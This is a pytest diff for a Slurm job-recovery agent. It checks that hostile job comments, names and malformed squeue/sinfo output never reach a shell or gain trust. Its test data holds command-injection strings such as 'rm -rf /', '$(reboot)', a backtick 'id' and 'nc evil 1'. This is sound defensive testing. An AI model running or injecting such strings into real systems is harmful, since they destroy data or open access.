@@ -1,0 +1,136 @@
+"""Hostile and malformed input: never a crash, never a shell, never more trust
+than the input deserves."""
+from __future__ import annotations
+
+import json
+import subprocess
+
+import pytest
+
+from recovery_agent.config import from_mapping
+from recovery_agent.detect.patterns import load_rules
+from recovery_agent.detect.scanner import Scanner
+from recovery_agent.errors import SchedulerError
+from recovery_agent.logs.tail import MemoryCursorStore, Tailer
+from recovery_agent.scheduler.cli_backend import CliScheduler
+from recovery_agent.scheduler.runner import SlurmRunner
+from recovery_agent.store import Store
+from recovery_agent.watch import Watcher
+from slurm_hooks import spec as specs
+from tests.conftest import slurm_fixture
+
+EVIL = ["recovery=prod;rm -rf /", "recovery=prod:action,ckpt=/x$(reboot)",
+        "recovery=prod`id`", "recovery=prod:action,notify=http://x/`id`",
+        "recovery=prod|nc evil 1", "recovery=prod:action,max-restarts=1;reboot",
+        "recovery=\u202eprod", "recovery=prod\x00:action"]
+
+
+@pytest.mark.parametrize("comment", EVIL)
+def test_comment_spec_injection_is_refused_and_only_monitored(tmp_path, comment):
+    raw = specs.from_comment(comment)
+    if raw is not None:
+        with pytest.raises(specs.SpecError):
+            specs.parse(raw)
+
+
+class Listing:
+    def __init__(self, jobs) -> None:
+        self.jobs = jobs
+
+    def list_jobs(self, job_ids=None):
+        return list(self.jobs)
+
+
+def test_hostile_job_names_and_comments_are_stored_as_data(tmp_path):
+    from recovery_agent.scheduler.base import Job
+    cfg = from_mapping({"agent": {"cluster": "c1"},
+                        "environments": {"prod": {"mode": "action"}}})
+    store = Store(tmp_path / "r.db")
+    out = tmp_path / "out.log"
+    out.write_text("step 1\n")
+    name = "$(reboot); `id` | rm -rf / && 训练 \u202e '\"<script>"
+    jobs = [Job(job_id="7", numeric_id=7, name=name, state="RUNNING", submit_time=1,
+                comment="recovery=prod:action,ckpt=/x$(reboot)", stdout=str(out)),
+            Job(job_id="8", numeric_id=8, name=name, state="RUNNING", submit_time=1,
+                comment="recovery=prod:action", stdout=str(out))]
+    watcher = Watcher(cfg, store, Listing(jobs), Scanner(load_rules(), engine="re"),
+                      Tailer(MemoryCursorStore()))
+    watcher.cycle()
+    evil, fine = store.find_job("c1", "7"), store.find_job("c1", "8")
+    assert evil["name"] == name and evil["mode"] == "monitor"   # a bad spec never acts
+    assert fine["mode"] == "action"
+
+
+def _fake_squeue(tmp_path, text: str) -> CliScheduler:
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    (tmp_path / "out.json").write_text(text)
+    script = bin_dir / "squeue"
+    script.write_text(f"#!/bin/sh\nexec cat {tmp_path / 'out.json'}\n")
+    script.chmod(0o755)
+    return CliScheduler(SlurmRunner(bin_dir=str(bin_dir)))
+
+
+@pytest.mark.parametrize("text", ['{"jobs": [', "not json at all", '{"jobs": "x"}', "[]",
+                                  '{"meta": 5, "jobs": {}}', ""])
+def test_malformed_squeue_output_is_a_scheduler_error(tmp_path, text):
+    with pytest.raises(SchedulerError, match="squeue"):
+        _fake_squeue(tmp_path, text).list_jobs()
+
+
+def test_one_malformed_record_does_not_hide_the_others(tmp_path):
+    doc = slurm_fixture("22.05", "squeue_all.json")
+    good = len(doc["jobs"])
+    doc["jobs"] += [None, {"job_id": "abc"},
+                    {"job_id": 5, "restart_cnt": "x", "nodes": 7, "standard_output": 5}]
+    jobs = _fake_squeue(tmp_path, json.dumps(doc)).list_jobs()
+    assert len(jobs) == good and all(j.numeric_id for j in jobs)
+
+
+def test_runner_never_uses_a_shell_even_for_metacharacters(tmp_path):
+    runner = SlurmRunner(bin_dir=str(tmp_path))
+    echo = tmp_path / "scontrol"
+    echo.write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
+    echo.chmod(0o755)
+    argv = ["scontrol", "update", "jobid=7", "Comment=$(touch /tmp/pwned); `id` | x"]
+    out = runner.run(argv).stdout.splitlines()
+    assert out == argv[1:]
+    with pytest.raises(TypeError):
+        runner.run("scontrol show job 7; reboot")
+
+
+def test_a_ten_megabyte_line_is_capped_not_swallowed(tmp_path):
+    log = tmp_path / "job.out"
+    with open(log, "w") as fh:
+        fh.write("x" * (10 << 20) + " CUDA error: an illegal memory access\nstep 2\n")
+    tailer = Tailer(MemoryCursorStore())
+    tailer.add(log, "k")
+    lines = []
+    for _ in range(200):
+        lines += tailer.poll()
+        if any(line.text == "step 2" for line in lines):
+            break
+    assert lines[-1].text == "step 2"
+    assert max(len(line.text) for line in lines) <= 64 * 1024
+
+
+def test_hook_wrapper_shell_fast_path_does_not_evaluate_the_comment(tmp_path):
+    """The dev cluster's hook wrapper reads SLURM_JOB_COMMENT in a case pattern only."""
+    from recovery_agent.devcluster.config import ClusterSpec, Layout, hook_wrapper
+    lay = Layout(tmp_path)
+    script = tmp_path / "prolog"
+    script.write_text(hook_wrapper(ClusterSpec(hooks_bin="/nonexistent"), lay, "prolog"))
+    script.chmod(0o755)
+    marker = tmp_path / "pwned"
+    env = {"PATH": "/usr/bin:/bin", "SLURM_JOB_COMMENT": f"$(touch {marker}) `touch {marker}`"}
+    result = subprocess.run([str(script)], env=env, capture_output=True, timeout=10)
+    assert result.returncode == 0 and not marker.exists()
+
+
+@pytest.mark.parametrize("text", ['{"nodes": 5}', '{"nodes": [null]}', "[1, 2]"])
+def test_malformed_sinfo_output_is_a_scheduler_error(tmp_path, text):
+    sched = _fake_squeue(tmp_path, text)
+    (tmp_path / "bin" / "sinfo").write_text(f"#!/bin/sh\nexec cat {tmp_path / 'out.json'}\n")
+    (tmp_path / "bin" / "sinfo").chmod(0o755)
+    with pytest.raises(SchedulerError, match="sinfo"):
+        sched.list_nodes()
